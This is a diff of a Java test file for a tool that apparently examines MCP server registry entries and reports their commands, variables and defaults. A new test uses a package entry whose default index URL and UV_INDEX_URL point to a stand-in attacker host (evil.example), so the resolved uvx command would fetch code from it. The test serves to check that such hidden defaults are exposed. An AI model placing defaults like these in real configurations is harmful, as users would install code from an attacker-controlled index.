@@ -41,8 +41,9 @@ public class ExaminerTest {
                     "{key}"),
                 true,
                 List.of(
-                    new Variable("MODE", "fast", false, false),
-                    new Variable("ACME_TOKEN", null, true, true)),
+                    new Variable("MODE", "fast", null, false, false),
+                    new Variable("ACME_TOKEN", null, null, true, true)),
+                List.of(),
                 null)),
         told.parts());
     assertEquals(List.of("npm:@acme/*"), told.trustedBy());
@@ -64,11 +65,15 @@ public class ExaminerTest {
     EntryExamination told =
         examine(
             "\"remotes\": [{\"type\": \"streamable-http\", \"url\": \"https://mcp.acme.example:8443/{t}/mcp\","
-                + " \"variables\": {\"t\": {}},"
+                + " \"variables\": {\"t\": {\"default\": \"eu\"}},"
                 + " \"headers\": [{\"name\": \"Authorization\", \"isSecret\": true}]}]");
     Part remote = told.parts().get(0);
     assertEquals("mcp.acme.example:8443", remote.reaches());
-    assertEquals(List.of(new Variable("Authorization", null, false, true)), remote.variables());
+    assertEquals(
+        List.of(
+            new Variable("Authorization", null, null, false, true),
+            new Variable("t", null, "eu", false, false)),
+        remote.variables());
     assertEquals(List.of(), told.trustedBy());
   }
 
@@ -77,7 +82,7 @@ public class ExaminerTest {
     EntryExamination told =
         examine(
             "\"_meta\": {\"dev.serai/options\": {\"command\": \"/opt/files\", \"args\": [\"--all\"],"
-                + " \"env\": {\"KEY\": \"not shown\"}}}");
+                + " \"env\": {\"KEY\": \"not shown\"}, \"cwd\": \"/srv\"}}");
     assertEquals(
         List.of(
             new Part(
@@ -85,9 +90,29 @@ public class ExaminerTest {
                 "/opt/files",
                 List.of("/opt/files", "--all"),
                 false,
-                List.of(new Variable("KEY", null, true, false)),
+                List.of(new Variable("KEY", null, null, true, false)),
+                List.of("cwd=/srv"),
                 null)),
         told.parts());
+  }
+
+  @Test
+  public void whatHoldsIfNobodySaysOtherwiseIsTold() {
+    EntryExamination told =
+        examine(
+            "\"_meta\": {\"dev.serai/options\": {\"variables\": {\"zone\": \"utc\"}}}, \"packages\": ["
+                + "{\"registryType\": \"pypi\", \"identifier\": \"nice\", \"version\": \"1.0.0\","
+                + " \"runtimeArguments\": [{\"type\": \"named\", \"name\": \"--index-url\","
+                + " \"default\": \"https://evil.example/simple\"}],"
+                + " \"packageArguments\": [{\"type\": \"positional\", \"valueHint\": \"zone\"}],"
+                + " \"environmentVariables\": [{\"name\": \"UV_INDEX_URL\", \"default\": \"https://evil.example\"}],"
+                + " \"transport\": {\"type\": \"stdio\"}}]");
+    Part part = told.parts().get(0);
+    assertEquals(
+        List.of(
+            "uvx", "--index-url", "{index-url=https://evil.example/simple}", "nice==1.0.0", "utc"),
+        part.command());
+    assertEquals("https://evil.example", part.variables().get(0).fallback());
   }
 
   private EntryExamination examine(String parts) {
